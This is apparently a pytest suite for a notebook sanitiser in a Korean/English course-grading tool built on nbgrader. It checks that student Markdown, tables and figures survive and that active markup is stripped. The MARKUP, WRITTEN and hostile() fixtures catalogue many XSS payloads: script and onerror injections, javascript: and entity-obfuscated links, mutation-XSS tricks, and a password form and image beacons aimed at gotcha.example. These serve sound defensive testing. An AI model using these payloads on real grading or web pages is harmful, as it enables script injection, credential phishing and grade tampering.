"""What formgrader shows of a submission: text, Markdown, tables and pictures stay; nothing acts, calls home or leads astray."""

import base64
import copy
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import numpy as np
import pandas as pd
import pytest
from IPython.core.pylabtools import print_figure
from matplotlib.figure import Figure
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from sklearn.linear_model import LogisticRegression
from small_course import CASE
from traitlets.config import Config

from gangso.grading import settings
from gangso.grading.attacks.attack_pages import formgraders_page
from gangso.grading.course.cohort import Cohort, assignment_notebook
from gangso.grading.execution import harmless
from gangso.grading.execution.harmless import Harmless
from gangso.notebook import pdf
from gangso.notebook.compile import source_files

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def shown(**data: object) -> NotebookNode:
    """Return a cell whose code has displayed `data`, by MIME type with underscores."""
    kinds = {"html": "text/html", "markdown": "text/markdown", "plain": "text/plain", "latex": "text/latex"}
    kinds |= {"png": "image/png", "jpeg": "image/jpeg", "svg": "image/svg+xml", "js": "application/javascript"}
    outputs = [new_output("display_data", {kinds[name]: value for name, value in data.items()})]
    return new_code_cell("display()", outputs=outputs)


def harmless_cell(cell: NotebookNode) -> NotebookNode:
    nb, _ = Harmless().preprocess(new_notebook(cells=[copy.deepcopy(cell)]), {})
    nbformat.validate(nb)
    return nb.cells[0]


def page(nb: NotebookNode) -> str:
    return formgraders_page(copy.deepcopy(nb))


# ---- what stays


@pytest.mark.parametrize(
    "source",
    [
        "# 설비를 멈출까요?\n\n- 멈춥니다. **이유**는 `rms > 4`입니다.\n- $x<t$ 또는 $$\\frac{a}{b} < c$$",
        "| 설비 | 값 |\n|:--|--:|\n| A | 1 |\n\n> 인용\n\n1. 하나\n2. 둘\n\n---\n\n- [x] 끝",
        "a < b, 3 > 2, R&D, <5 mm, x<y",
        "```python\nif a < b:\n    print('<script>')\n```\n\n    indented <b>\n\nand `<img src=x>`",
        "[자료](https://example.org/a?b=1&c=2 'title'), <https://example.org>, [위로](#top), <mail@example.org>",
        "H<sub>2</sub>O<br>x<sup>2</sup>, <b>bold</b> & &lt;",
        "![그림](attachment:plot.png)",
    ],
)
def test_a_memo_stays_as_it_was_written(source: str) -> None:
    cell = new_markdown_cell(source, attachments={"plot.png": {"image/png": PIXEL}})
    assert harmless_cell(cell).source == source


def test_the_texts_of_the_assignments_stay() -> None:
    for case in ("00_orientation", "09_cobot"):
        assert "assignment" in source_files(case)
        for lang in ("ko", "en"):
            nb = assignment_notebook(case, lang)
            before = [cell.source for cell in nb.cells]
            Harmless().preprocess(nb, {})
            assert [cell.source for cell in nb.cells] == before, case


def test_tables_stay() -> None:
    table = pd.DataFrame({"설비": ["A", "B<C"], "rms": np.array([1.5, np.nan])})
    cell = harmless_cell(shown(html=table._repr_html_(), plain=repr(table)))
    kept = cell.outputs[0].data["text/html"]
    assert kept.partition("<table")[2] == table._repr_html_().partition("<table")[2]
    assert "<td>B&lt;C</td>" in kept and '<table border="1" class="dataframe">' in kept
    assert cell.outputs[0].data["text/plain"] == repr(table)
    assert "<style" not in cell.outputs[0].data["text/html"]


def test_a_styled_table_keeps_its_numbers() -> None:
    table = pd.DataFrame({"a": [1.25, 2.5]}).style.format("{:.2f}").background_gradient()
    kept = harmless_cell(shown(html=table.to_html(), plain="x")).outputs[0].data["text/html"]
    assert "1.25" in kept and "2.50" in kept and "background-color" not in kept


def test_pictures_stay() -> None:
    figure = Figure(figsize=(1, 1))
    figure.subplots().plot([1, 2])
    png = print_figure(figure, base64=True)
    assert harmless_cell(shown(png=png, plain="<Figure>")).outputs[0].data == {
        "image/png": png,
        "text/plain": "<Figure>",
    }


def test_what_formgrader_shows_as_text_stays() -> None:
    text = "<script>alert(1)</script>"
    outputs = [new_output("stream", text=text), new_output("error", ename=text, evalue=text, traceback=[text])]
    cell = harmless_cell(new_code_cell(text, outputs=outputs))
    assert cell.outputs == outputs and cell.source == text


def test_an_estimator_is_shown_as_text() -> None:
    model = LogisticRegression()
    cell = harmless_cell(shown(html=model._repr_html_(), plain=repr(model)))
    assert cell.outputs[0].data == {"text/plain": "LogisticRegression()"}


def test_a_formula_stays() -> None:
    assert harmless_cell(shown(latex="$x^2$", plain="x²")).outputs[0].data["text/latex"] == "$x^2$"


def test_what_the_checker_wrote_stays() -> None:
    """Partial credit is read from it afterwards."""
    cell = shown(html="<div onclick=x>", plain="0.5")
    cell.metadata["nbgrader"] = {"grade": True, "solution": False, "grade_id": "check", "points": 1}
    assert harmless_cell(cell).outputs == cell.outputs


# ---- what does not

ACT = "document.documentElement.setAttribute('gotcha','1')"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script></svg>'
MARKUP = {
    "script": f"<script>{ACT}</script>",
    "script in capitals": f"<ScRiPt >{ACT}</sCrIpT >",
    "half a script": f"<script>{ACT}",
    "image that fails": f'<img src="x" onerror="{ACT}">',
    "image without quotes": f"<img/src=x/onerror={ACT}>",
    "after a table": f"<table><tr><td>1</td></tr></table><img src=x onerror={ACT}>",
    "handler": f'<b onmouseover="{ACT}" style="position:fixed;inset:0">x</b>',
    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart='{ACT}'>x</b>",
    "svg": SVG,
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{ACT}">',
    "frame": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    "frame of data": "<iframe src='data:text/html,x'></iframe>",
    "object": "<object data='https://gotcha.example/x'></object><embed src='https://gotcha.example/x'>",
    "form": "<form action='https://gotcha.example'><input name=password><button>ok</button></form>",
    "address": f'<a href="javascript:{ACT}">x</a>',
    "address of entities": f'<a href="&#106;ava&Tab;script:{ACT}">x</a>',
    "address of data": "<a href='data:text/html,<script>x</script>'>x</a>",
    "page of the submission's": '<a href="evil.html">my data</a><a href="/formgrader">x</a>',
    "picture from elsewhere": '<img src="https://gotcha.example/x.png"><img src="//gotcha.example/x">',
    "picture by style": '<b style="background-image:url(https://gotcha.example/x)">x</b>',
    "style sheet": '<link rel="stylesheet" href="https://gotcha.example/x.css"><style>@import "//gotcha.example"</style>',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://gotcha.example"><base href="https://gotcha.example">',
    "comment": f"<!--><img src=x onerror={ACT}>-->",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={ACT}>">',
    "textarea": f'<textarea></div></textarea><title><img title="</title><img src=x onerror={ACT}>">',
    "attribute with a bracket": f'<b title="><img src=x onerror={ACT}>">x</b>',
    "attribute twice": f'<a href="https://x.org" href="javascript:{ACT}" x>y</a>',
    "formgrader's own field": '<input class="score" id="check-rms"><h1 id="check-rms">x</h1>',
    "dialog": '<div class="modal in" style="display:block;position:fixed">password?</div>',
    "formula with an address": "<b>$\\href{javascript:x}{y}$ $\\require{HTML}\\style{position:fixed}{x}$</b>",
    "formula in pieces": "<b>$\\hr<!-- -->ef{javascript:x}{y}$</b>",
    "formula of entities": "<b>$&#92;href{javascript:x}{y}$</b>",
}
WRITTEN = {
    "link": f"[x](javascript:{ACT.replace(chr(39), '')})",
    "link of entities": "[x](java&#115;cript&colon;x)",
    "link by reference": "[x][y]\n\n[y]: javascript:x",
    "address in brackets": "<javascript:x>",
    "picture": "![x](https://gotcha.example/x.png)",
    "picture by reference": "![x][y]\n\n[y]: https://gotcha.example/x.png",
    "page of the submission's": "[my data](evil.html)",
    "mermaid": f"```mermaid\n<img src=x onerror={ACT}>\n```",
    "mermaid in waves": f"~~~mermaid\n<img src=x onerror={ACT}>\n~~~",
    "attachment": "![x](attachment:x)",
    "attachment's name": f'![x" onerror="{ACT}](attachment:x)',
    "heading like a field": "# check-rms",
    "heading like a comment": "check-rms-comment\n===",
    "formula": "$\\href{javascript:x}{y}$",
    "formula on its own": "$$\n\\cssId{check-rms}{y}\n$$",
    "fence": f"`````\n````\n<img src=x onerror={ACT}>",
    "fence that ends": f"```\n`````\n<img src=x onerror={ACT}>\n`````",
    "formula around a tag": f"$$<img src=x onerror={ACT}>$$ $<img src=x onerror={ACT}>$",
    "formula in a fence": f"```\n$$\n```\n<img src=x onerror={ACT}>\n$$",
    "quotation": f"> > <img src=x onerror={ACT}>",
    "long": "a" * 30_000 + f"<img src=x onerror={ACT}>",
}
ATTACHED = {"x": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}


def hostile() -> list[NotebookNode]:
    """Each of them in every place where a participant can put it."""
    cells = []
    for text in (*MARKUP.values(), *WRITTEN.values()):
        cells += [new_markdown_cell(text, attachments=ATTACHED), shown(markdown=text), new_raw_cell(text)]
        cells += [shown(html=text, plain=text), shown(latex=text), shown(svg=text), shown(png=text, jpeg=text)]
    cells.append(shown(js=ACT, plain="x"))
    cells.append(shown(svg=SVG))
    cells.append(new_raw_cell(SVG, metadata={"raw_mimetype": "text/html"}))
    cells.append(new_code_cell("x", metadata={"tags": ['"><script>'], "magics_language": SVG}))
    cells[3].outputs[0].metadata = {"text/html": {"isolated": True}, "image/png": {"width": f'"{SVG}'}}
    return cells


def notebook(cells: list[NotebookNode]) -> NotebookNode:
    graded = new_code_cell("assert True")
    graded.metadata["nbgrader"] = {
        "grade": True,
        "solution": False,
        "locked": True,
        "grade_id": "check-rms",
        "points": 1,
    }
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"x": "</script>" + SVG}}}
    language = dict.fromkeys(("name", "pygments_lexer", "mimetype", "codemirror_mode"), f'"{SVG}')
    kernel = {"name": "python3", "display_name": SVG, "language": f'"{SVG}'}
    return new_notebook(
        cells=[*cells, graded],
        metadata={"widgets": widgets, "title": SVG, "language_info": language, "kernelspec": kernel},
    )


class Seen(HTMLParser):
    """All tags of a page, and their attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.attributes: Counter[tuple[str, str, str]] = Counter()
        self.feed(text)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes.update((tag, name, value or "") for name, value in attributes)


@pytest.fixture(scope="module")
def pages() -> tuple[str, str]:
    """formgrader's page of the hostile notebook made harmless, and of one that shows nothing."""
    nb, _ = Harmless().preprocess(notebook(hostile()), {})
    nbformat.validate(nb)
    return page(nb), page(notebook([]))


def test_the_page_has_no_other_tags_than_text_and_tables_need(pages: tuple[str, str]) -> None:
    seen, bare = (Seen(text) for text in pages)
    allowed = {*harmless.TAGS.split(), "input"}  # a box to tick, of Markdown
    assert set(seen.tags - bare.tags) <= allowed
    assert seen.tags["input"] == bare.tags["input"]


def test_the_page_has_no_attributes_that_act(pages: tuple[str, str]) -> None:
    seen, bare = (Seen(text) for text in pages)
    for tag, name, value in seen.attributes - bare.attributes:
        assert not name.startswith("on"), (tag, name, value)
        assert name in {"src", "href", "alt", "title", "class", "style", "id"}, (tag, name, value)
        if name == "src":
            assert value.startswith(("data:image/png;", "data:image/jpeg;"))
        elif name == "href":
            assert value.startswith(("https://", "#"))
        elif name == "class":
            assert not {"modal", "score", "navbar"} & set(value.split())
        elif name == "style":
            assert "url" not in value and "position" not in value
    ids = Counter(
        value for _, name, value in seen.attributes.elements() if name == "id" and value.startswith("check-rms")
    )
    assert ids and ids == Counter(
        value for _, name, value in bare.attributes.elements() if name == "id" and value.startswith("check-rms")
    )


@pytest.mark.parametrize("kind", sorted({**MARKUP, **WRITTEN}))
def test_nothing_that_was_written_is_lost(kind: str) -> None:
    """A person still reads what stands there: as text."""
    text = {**MARKUP, **WRITTEN}[kind]
    assert text in harmless_cell(new_markdown_cell(text, attachments=ATTACHED)).source


@pytest.mark.skipif(not pdf.find_chromium(), reason="no Chromium on this machine: apt install chromium")
def test_nothing_acts_in_a_browser(pages: tuple[str, str], tmp_path: Path) -> None:
    """What was handed in does: so the browser would have told."""
    raw = page(notebook([new_markdown_cell(text) for text in (MARKUP["script"], MARKUP["image that fails"])]))
    for name, text in (("raw", raw), ("harmless", pages[0])):
        path = tmp_path / f"{name}.html"
        path.write_text(text, encoding="utf-8")
        dom = pdf.run_chromium(tmp_path, "--virtual-time-budget=5000", "--dump-dom", path.as_uri())
        assert ('gotcha="1"' in dom.partition("<head>")[0]) == (name == "raw")


def test_metadata_of_a_participants_own_goes() -> None:
    nb, _ = Harmless().preprocess(notebook(hostile()), {})
    assert set(nb.metadata) == {"kernelspec"}
    assert all(set(cell.metadata) <= {"nbgrader"} for cell in nb.cells)


# ---- limits


def test_more_markup_than_a_person_reads_is_shown_as_text() -> None:
    row = "<tr><td>1</td></tr>"
    cells = [shown(html=f"<table>{row * 10_000}</table>", plain="a table") for _ in range(3)]
    nb, _ = Harmless().preprocess(new_notebook(cells=cells), {})
    assert ["text/html" in cell.outputs[0].data for cell in nb.cells] == [True, False, False]
    assert nb.cells[1].outputs[0].data == {"text/plain": "a table"}


@pytest.mark.parametrize("nested", ["<div>", "<b>", "<b><p>", "<i title='>", "> ", "[", "*a ", "<a "])
def test_deep_nesting_ends(nested: str) -> None:
    text = nested * (300_000 // len(nested))
    cells = [
        new_markdown_cell(text),
        shown(html=text, plain="x"),
        shown(markdown=text),
        new_markdown_cell(text[:19_000]),
    ]
    nb, _ = Harmless().preprocess(new_notebook(cells=cells), {})
    nbformat.validate(nb)


def test_values_of_other_types_are_dropped() -> None:
    for value in ({"a": 1}, ["x"], 5, None):
        output = NotebookNode(output_type="display_data", metadata={}, data={"text/html": value, "image/png": value})
        cell = new_code_cell("x", outputs=[])
        cell.outputs = [output]
        nb = NotebookNode(nbformat=4, nbformat_minor=5, metadata={}, cells=[cell])
        (made,) = Harmless().preprocess(nb, {})[0].cells[0].outputs
        assert made.data == {"text/plain": "[text/html], [image/png]"}


# ---- where it stands


@pytest.mark.parametrize("lang", ["ko", "en"])
def test_it_comes_behind_the_execution(lang: str) -> None:
    config = Config()
    settings.apply(config, lang=lang, course="x")
    steps = config.Autograde.autograde_preprocessors
    assert steps.index(Harmless) == 1 + steps.index(settings.ExecuteInside) < steps.index(settings.SaveAutoGrades)


def test_nbgraders_own_autograding_leaves_nothing_that_acts(graded: Cohort) -> None:
    """kim's memo holds a script and half a formula."""
    nb = nbformat.read(graded.folder / "autograded" / "kim" / CASE / "assignment.ipynb", as_version=4)
    (memo,) = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "memo-decision"]
    assert "<script>alert(1)</script>" in memo.source
    assert Seen(page(nb)).tags["script"] == Seen(page(new_notebook())).tags["script"]
